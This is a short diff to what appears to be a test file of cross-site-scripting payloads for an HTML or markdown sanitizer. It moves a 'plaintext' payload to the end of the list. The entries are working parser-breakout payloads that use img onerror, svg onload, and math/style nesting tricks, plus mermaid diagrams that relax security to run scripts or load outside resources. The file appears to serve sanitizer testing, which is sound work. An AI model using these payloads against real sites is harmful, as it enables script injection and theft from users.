@@ -141,7 +141,6 @@ export const payloads: Record<string, string> = {
   "a noscript": `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`,
   "a text area": `<textarea><img title="</textarea><img src=x onerror=${hit}>"></textarea>`,
   "a title": `<title><img title="</title><img src=x onerror=${hit}>"></title><xmp><p title="</xmp><svg/onload=${hit}>"></xmp>`,
-  "old texts": `<listing>&lt;img src=x onerror=${hit}&gt;</listing><plaintext><img src=x onerror=${hit}>`,
   "mathematics that holds a style": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${hit}&gt;">`,
   "forms within mathematics": `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${hit}>`,
   "a style within a drawing": `<svg></p><style><a id="</style><img src=x onerror=${hit}>">`,
@@ -162,4 +161,7 @@ export const payloads: Record<string, string> = {
   "a diagram that loosens its rules": `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(${elsewhere}/x.css)"}}%%\ngraph TD\n  A["<iframe srcdoc='<script>parent.${hit}</script>'>"] --> B\n\`\`\``,
   "a diagram with a picture": `\`\`\`mermaid\ngraph TD\n  A@{ img: "${elsewhere}/x.png", label: "x" } --> B["\`**x** ![y](${elsewhere}/y.png)\`"]\n\`\`\``,
   "a diagram that ends its source": `\`\`\`mermaid\n</code></pre><script>${hit}</script><iframe src=${spelled}>\n\`\`\``,
+
+  // Last, because it swallows whatever follows.
+  "old texts": `<listing>&lt;img src=x onerror=${hit}&gt;</listing><plaintext><img src=x onerror=${hit}>`,
 };
